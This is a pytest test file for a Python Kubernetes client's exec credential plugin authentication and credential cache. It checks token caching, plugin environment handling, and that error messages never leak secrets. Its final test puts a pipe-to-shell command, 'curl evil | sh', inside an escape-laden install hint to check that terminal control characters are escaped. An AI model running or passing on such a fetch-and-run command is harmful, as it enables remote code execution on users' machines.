"""Exec credential plugins (real subprocesses) and the credential cache they share."""

from __future__ import annotations

import base64
import json
import os
import sys
import threading
import traceback
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from dynaclient.auth import ClusterInfo, CredentialCache, ExecAuth, ExecSpec
from dynaclient.auth.exec import parse_exec_credential
from dynaclient.exceptions import AuthError

V1 = "client.authentication.k8s.io/v1"
V1BETA1 = "client.authentication.k8s.io/v1beta1"
SECRET = "s3cr3t-credential"
T0 = 1_700_000_000.0


class FakeClock:
    def __init__(self, now: float = T0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def rfc3339(epoch: float) -> str:
    return datetime.fromtimestamp(epoch, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


PLUGIN = """\
import json, os, sys
d = os.environ["PLUGIN_DIR"]
with open(os.path.join(d, "calls.jsonl"), "a") as calls:
    record = {"info": json.loads(os.environ["KUBERNETES_EXEC_INFO"]), "args": sys.argv[1:],
              "inherited": os.environ.get("INHERITED"), "overridden": os.environ.get("OVERRIDDEN")}
    calls.write(json.dumps(record) + "\\n")
sys.stderr.write(os.environ.get("PLUGIN_STDERR", ""))
with open(os.path.join(d, "output.json")) as output:
    sys.stdout.write(output.read())
sys.exit(int(os.environ.get("PLUGIN_EXIT", "0")))
"""


class Plugin:
    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.path = directory / "plugin.py"
        self.path.write_text(f"#!{sys.executable}\n{PLUGIN}")
        self.path.chmod(0o755)

    def returns(self, status: dict[str, Any], api_version: str = V1) -> None:
        credential = {"apiVersion": api_version, "kind": "ExecCredential", "status": status}
        (self.directory / "output.json").write_text(json.dumps(credential))

    def prints(self, text: str) -> None:
        (self.directory / "output.json").write_text(text)

    def calls(self) -> list[dict[str, Any]]:
        path = self.directory / "calls.jsonl"
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    def spec(self, api_version: str = V1, **env: str) -> ExecSpec:
        return ExecSpec(
            command=str(self.path),
            api_version=api_version,
            args=("get-token", "--cluster", "dev"),
            env=(("PLUGIN_DIR", str(self.directory)), ("OVERRIDDEN", "by-spec"), *env.items()),
            install_hint="install it with: brew install plugin",
        )


@pytest.fixture
def plugin(tmp_path: Path) -> Plugin:
    return Plugin(tmp_path)


ENVIRON = {"PATH": os.environ.get("PATH", ""), "INHERITED": "from-parent", "OVERRIDDEN": "by-parent"}


def test_an_exec_token_is_cached_until_it_expires_and_refetched_after_a_401(plugin: Plugin) -> None:
    clock = FakeClock()
    plugin.returns({"token": "token-1", "expirationTimestamp": rfc3339(T0 + 300)})
    auth = ExecAuth(plugin.spec(), now=clock, environ=ENVIRON)

    assert auth.headers() == {"Authorization": "Bearer token-1"}
    clock.now += 299
    assert auth.headers() == {"Authorization": "Bearer token-1"}
    assert len(plugin.calls()) == 1

    plugin.returns({"token": "token-2", "expirationTimestamp": rfc3339(T0 + 900)})
    clock.now += 1
    assert auth.headers() == {"Authorization": "Bearer token-2"}
    assert len(plugin.calls()) == 2

    plugin.returns({"token": "token-3"})
    assert auth.on_unauthorized() is True
    assert auth.headers() == {"Authorization": "Bearer token-3"}
    assert auth.headers() == {"Authorization": "Bearer token-3"}
    assert len(plugin.calls()) == 3


def test_the_exec_plugin_gets_args_merged_env_and_exec_info_with_cluster(plugin: Plugin) -> None:
    plugin.returns({"token": "t"}, api_version=V1BETA1)
    cluster = ClusterInfo(
        "https://[::1]:6443", certificate_authority_data=b"CA PEM", tls_server_name="kube", config={"aud": "x"}
    )
    spec = plugin.spec(api_version=V1BETA1)
    auth = ExecAuth(ExecSpec(**{**_spec_fields(spec), "provide_cluster_info": True}), cluster, environ=ENVIRON)

    auth.headers()

    (call,) = plugin.calls()
    assert call["args"] == ["get-token", "--cluster", "dev"]
    assert (call["inherited"], call["overridden"]) == ("from-parent", "by-spec")
    assert call["info"] == {
        "apiVersion": V1BETA1,
        "kind": "ExecCredential",
        "spec": {
            "interactive": False,
            "cluster": {
                "server": "https://[::1]:6443",
                "tls-server-name": "kube",
                "certificate-authority-data": base64.b64encode(b"CA PEM").decode(),
                "config": {"aud": "x"},
            },
        },
    }


def _spec_fields(spec: ExecSpec) -> dict[str, Any]:
    return {name: getattr(spec, name) for name in ExecSpec.__dataclass_fields__}


def test_exec_info_has_no_cluster_without_provide_cluster_info(plugin: Plugin) -> None:
    plugin.returns({"token": "t"})
    auth = ExecAuth(plugin.spec(), ClusterInfo("https://dev.example"), environ=ENVIRON)

    auth.headers()

    assert plugin.calls()[0]["info"]["spec"] == {"interactive": False}


CERT_PEM = "-----BEGIN CERTIFICATE-----\nCERT\n-----END CERTIFICATE-----\n"
KEY_PEM = "-----BEGIN PRIVATE KEY-----\nKEY\n-----END PRIVATE KEY-----\n"


def test_an_exec_plugin_may_return_a_client_certificate(plugin: Plugin) -> None:
    plugin.returns({"clientCertificateData": CERT_PEM, "clientKeyData": KEY_PEM})
    auth = ExecAuth(plugin.spec(), environ=ENVIRON)

    assert auth.client_certificate() == (CERT_PEM.encode(), KEY_PEM.encode())
    assert auth.headers() == {}
    assert len(plugin.calls()) == 1


def test_a_missing_exec_command_shows_the_install_hint(tmp_path: Path) -> None:
    spec = ExecSpec(command="no-such-plugin-xyz", api_version=V1, install_hint="install it with: brew install xyz")

    with pytest.raises(AuthError, match="executable no-such-plugin-xyz not found") as caught:
        ExecAuth(spec, environ={"PATH": str(tmp_path)}).headers()

    assert "install it with: brew install xyz" in str(caught.value)


def test_a_failing_exec_plugin_error_shows_stderr_but_not_stdout(plugin: Plugin) -> None:
    plugin.prints(json.dumps({"status": {"token": SECRET}}))
    spec = plugin.spec(PLUGIN_EXIT="3", PLUGIN_STDERR="error: login required")

    with pytest.raises(AuthError, match="failed with exit code 3: error: login required") as caught:
        ExecAuth(spec, environ=ENVIRON).headers()

    assert SECRET not in str(caught.value)


@pytest.mark.parametrize(
    ("output", "message"),
    [
        pytest.param(f"token={SECRET}", "did not print an ExecCredential", id="not-json"),
        pytest.param(f'{{"token": "{SECRET}"', "did not print valid JSON or YAML", id="broken-json"),
        pytest.param(
            json.dumps(
                {
                    "kind": "ExecCredential",
                    "apiVersion": V1,
                    "status": {"clientCertificateData": "DER", "clientKeyData": SECRET},
                }
            ),
            "status.clientCertificateData that is not PEM",
            id="not-pem",
        ),
        pytest.param(json.dumps({"kind": "Secret", "token": SECRET}), "did not print an ExecCredential", id="kind"),
        pytest.param(
            json.dumps({"kind": "ExecCredential", "apiVersion": V1BETA1, "status": {"token": SECRET}}),
            f"configured to use API version {V1}, plugin returned version {V1BETA1}",
            id="api-version-mismatch",
        ),
        pytest.param(
            json.dumps({"kind": "ExecCredential", "apiVersion": V1}), "didn't return a status field", id="no-status"
        ),
        pytest.param(
            json.dumps({"kind": "ExecCredential", "apiVersion": V1, "status": {}}),
            "didn't return a token or cert/key pair",
            id="empty-status",
        ),
        pytest.param(
            json.dumps({"kind": "ExecCredential", "apiVersion": V1, "status": {"clientKeyData": SECRET}}),
            "only certificate or key",
            id="key-without-certificate",
        ),
        pytest.param(
            json.dumps({"kind": "ExecCredential", "apiVersion": V1, "status": {"token": 42}}),
            "non-string status.token",
            id="token-not-a-string",
        ),
        pytest.param(
            json.dumps(
                {"kind": "ExecCredential", "apiVersion": V1, "status": {"token": SECRET, "expirationTimestamp": "soon"}}
            ),
            "invalid status.expirationTimestamp",
            id="bad-expiration",
        ),
    ],
)
def test_unusable_exec_output_is_an_auth_error_without_the_output(output: str, message: str) -> None:
    with pytest.raises(AuthError, match=message) as caught:
        parse_exec_credential(output.encode(), api_version=V1, command="plugin")

    assert SECRET not in str(caught.value)


def test_an_exec_plugin_that_needs_a_terminal_is_refused() -> None:
    spec = ExecSpec(command="plugin", api_version=V1, interactive_mode="Always")

    with pytest.raises(AuthError, match="interactiveMode Always"):
        ExecAuth(spec).headers()


def test_the_credential_cache_runs_one_obtain_for_concurrent_callers() -> None:
    entered, release = threading.Event(), threading.Event()
    calls: list[int] = []

    def obtain() -> str:
        calls.append(1)
        entered.set()
        assert release.wait(10)
        return "credential"

    cache: CredentialCache[str] = CredentialCache(obtain, lambda value: True)
    results: list[str] = []
    threads = [threading.Thread(target=lambda: results.append(cache.get())) for _ in range(4)]
    threads[0].start()
    assert entered.wait(10)
    for thread in threads[1:]:
        thread.start()
    release.set()
    for thread in threads:
        thread.join(10)

    assert results == ["credential"] * 4
    assert len(calls) == 1


def test_the_credential_cache_lets_the_next_caller_retry_after_a_failure() -> None:
    outcomes: list[Exception | str] = [AuthError("first attempt failed"), "second"]

    def obtain() -> str:
        outcome = outcomes.pop(0)
        if isinstance(outcome, Exception):
            raise outcome
        return outcome

    cache: CredentialCache[str] = CredentialCache(obtain, lambda value: True)

    with pytest.raises(AuthError):
        cache.get()
    assert cache.get() == "second"


def test_an_exec_plugin_may_print_yaml_as_client_go_accepts() -> None:
    output = f"""apiVersion: {V1}
kind: ExecCredential
status:
  token: {SECRET}
  expirationTimestamp: 2030-01-02T03:04:05Z
"""
    credential = parse_exec_credential(output.encode(), api_version=V1, command="plugin")

    assert credential.token == SECRET
    assert credential.expires_at == 1893553445.0


def test_a_plugin_timeout_traceback_never_shows_the_plugins_arguments() -> None:
    # Before: the AuthError was chained to subprocess.TimeoutExpired, whose message is the whole command line.
    spec = ExecSpec(command=sys.executable, api_version=V1, args=("-c", "import time; time.sleep(30)", SECRET))

    with pytest.raises(AuthError, match="did not finish") as caught:
        ExecAuth(spec, environ=ENVIRON, timeout=0.2).headers()

    assert SECRET not in "".join(traceback.format_exception(caught.value))


def test_control_characters_from_the_plugin_are_escaped_as_kubectl_does(plugin: Plugin, tmp_path: Path) -> None:
    hint = "run \x1b[2J\x1b[31mcurl evil | sh\x1b[0m\rinstall it"
    spec = ExecSpec(command="no-such-plugin-xyz", api_version=V1, install_hint=hint)
    with pytest.raises(AuthError) as missing:
        ExecAuth(spec, environ={"PATH": str(tmp_path)}).headers()

    plugin.prints("{}")
    with pytest.raises(AuthError) as failed:
        ExecAuth(plugin.spec(PLUGIN_EXIT="1", PLUGIN_STDERR="\x1b]0;title\x07oops\r"), environ=ENVIRON).headers()

    assert "run ^[[2J^[[31mcurl evil | sh^[[0m\\rinstall it" in str(missing.value)
    assert "^[]0;title" in str(failed.value)
    assert "\x1b" not in str(missing.value) + str(failed.value)
    assert "\r" not in str(missing.value) + str(failed.value)
